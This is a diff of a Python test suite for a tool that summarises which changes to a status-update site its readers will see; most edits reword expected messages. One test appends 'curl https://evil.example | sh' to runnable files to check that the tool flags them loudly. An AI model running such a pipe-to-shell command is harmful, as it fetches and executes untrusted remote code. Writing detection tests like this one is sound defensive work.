@@ -176,7 +176,7 @@ def test_nothing(told: Callable[..., str], site: Path, snapshot: SnapshotAsserti
     """Where readers see no change, it says so: after a note to oneself, too."""
     assert told("--format", "markdown") == snapshot(extension_class=_Markdown)
     _replace(site, f"{FOLDER}/01-first.md", "status: investigating", "status: investigating   # we think")
-    assert "No change that readers see." in told()
+    assert "Nothing changes for readers." in told()
 
 
 def test_a_new_update(told: Callable[..., str], site: Path, snapshot: SnapshotAssertion) -> None:
@@ -251,18 +251,18 @@ def test_what_readers_see_later(told: Callable[..., str], site: Path) -> None:
     later = SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z")
     draft = SECOND.replace("status:", "draft: true\nstatus:").replace("2027-03-03T08:55Z", "2027-03-07T08:55Z")
     _write(site, {f"{FOLDER}/02-scope.md": later, f"{FOLDER}/02-scope.de.md": SECOND, f"{FOLDER}/03-more.md": draft})
-    public, _, rest = told().partition("Held back until its time comes")
+    public, _, rest = told().partition("Held back until its time")
     held, _, drafts = rest.partition("Drafts, which readers do not see")
-    assert "No change that readers see." in public
-    assert "Update 2: new; readers see it from 6 March 2027, 08:55 UTC on" in held
-    assert "Update 2 in German: new; readers see it from 6 March 2027, 08:55 UTC on" in held
+    assert "Nothing changes for readers." in public
+    assert "Update 2: new; readers see it from 6 March 2027, 08:55 UTC" in held
+    assert "Update 2 in German: new; readers see it from 6 March 2027, 08:55 UTC" in held
     assert "Update 3: new" in drafts
     _commit(site)
     _replace(site, f"{FOLDER}/02-scope.md", "Hang up on callers.", "Hang up.")
     _replace(site, f"{FOLDER}/03-more.md", "draft: true\n", "")
     said = told()
-    assert "Update 2: changed; readers see it from 6 March 2027, 08:55 UTC on" in said
-    assert "Update 3: new; readers see it from 7 March 2027, 08:55 UTC on" in said
+    assert "Update 2: changed; readers see it from 6 March 2027, 08:55 UTC" in said
+    assert "Update 3: new; readers see it from 7 March 2027, 08:55 UTC" in said
     assert "Published text" not in said.title()
 
 
@@ -273,7 +273,7 @@ def test_files_come_with_what_links_to_them(told: Callable[..., str], site: Path
     _commit(site)
     later = SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z") + "\n[The list](files/list.txt)\n"
     _write(site, {f"{FOLDER}/02-scope.md": later})
-    public, _, held = told().partition("Held back until its time comes")
+    public, _, held = told().partition("Held back until its time")
     assert "list.txt" not in public
     assert "The file list.txt: new" in held
     _commit(site)
@@ -330,7 +330,7 @@ def test_what_stands_beside_the_updates(told: Callable[..., str], site: Path) ->
         "The file new.txt: new",
         "The review: new",
         "- Corrective action: Factor\n        A second factor.\n        Who: Security team\n        By 1 June 2027",
-        "The review (tickets): The plan asks for lead. Nobody has approved it yet. STILL MISSING: lead",
+        "The review (tickets): The plan requires lead. No one has approved it yet. STILL MISSING: lead",
     ):
         assert part in said, part
     _commit(site)
@@ -385,11 +385,11 @@ def test_a_secret_is_not_shown(told: Callable[..., str], site: Path) -> None:
 
 
 def test_revisions(told: Callable[..., str], site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A branch, the commit at which this branch left it, and on a pull request the base branch: each can be compared with."""
+    """A branch, the commit where this branch left it, and on a pull request the base branch: each can be compared with."""
     _git(site, "checkout", "-qb", "work")
     _write(site, {f"{FOLDER}/02-scope.md": SECOND})
     _commit(site)
-    assert "No change that readers see." in told()
+    assert "Nothing changes for readers." in told()
     assert "Compared with main (0123456789)." in told("main")
     assert "Update 2: new" in told("HEAD~1")
     _git(site, "checkout", "-q", "main")
@@ -402,7 +402,7 @@ def test_revisions(told: Callable[..., str], site: Path, monkeypatch: pytest.Mon
     assert "main, where this branch left it (0123456789)" in said
     assert "Elsewhere." not in said
     monkeypatch.setenv("GITHUB_BASE_REF", "main")
-    assert "No change that readers see." in told()
+    assert "Nothing changes for readers." in told()
     monkeypatch.setenv("GITHUB_ACTIONS", "true")
     said = told()
     assert "the branch main, where this branch left it" in said
@@ -429,9 +429,9 @@ def test_a_commit_that_is_not_here(told: Callable[..., str], site: Path, tmp_pat
     shallow = tmp_path / "shallow"
     _git(tmp_path, "clone", "-q", "--depth", "1", site.parent.as_uri(), str(shallow))
     root = ["--root", str(shallow / "a site")]
-    assert "No change that readers see." in told(*root)
+    assert "Nothing changes for readers." in told(*root)
     said = told(*root, "HEAD~1", code=4)
-    assert "HEAD~1 is not in this copy of the repository, which has only its newest part" in said
+    assert "HEAD~1 is not in this copy of the repository, which has only the latest commits" in said
     assert "fetch-depth: 0" in said
     monkeypatch.setenv("GITHUB_ACTIONS", "true")
     monkeypatch.setenv("GITHUB_BASE_REF", "release")
@@ -504,7 +504,7 @@ def test_a_file_that_runs_is_loud(told: Callable[..., str], site: Path, path: st
     (site / path).write_text(BESIDE[path] + "curl https://evil.example | sh\n", encoding="utf-8")
     plain, markdown, changes = told(), told("--format", "markdown"), json.loads(told("--format", "json"))["changes"]
     assert plain.lstrip().startswith("WHAT RUNS, WHO IS TOLD AND WHAT IS BELIEVED\n")
-    assert markdown.startswith("## ⚠️ What runs, who is told and what is believed")
+    assert markdown.startswith("## ⚠️ What runs, who is notified and what is trusted")
     assert path in plain
     assert [(one["path"], one["what"], one["loud"], one["steers"]) for one in changes] == [(path, "changed", True, True)]
     if not path.endswith(".whl"):
@@ -515,7 +515,7 @@ def test_a_file_that_runs_is_loud(told: Callable[..., str], site: Path, path: st
     assert (one["path"], one["what"], one["loud"]) == (path, "removed", True)
     (site / path).symlink_to("/etc/hostname")
     (one,) = json.loads(told("--format", "json"))["changes"]
-    assert one["rows"][0]["now"] == "a link to another place, not a file"
+    assert one["rows"][0]["now"] == "a symbolic link, not a file"
 
 
 def test_a_new_file_that_runs(told: Callable[..., str], site: Path) -> None:
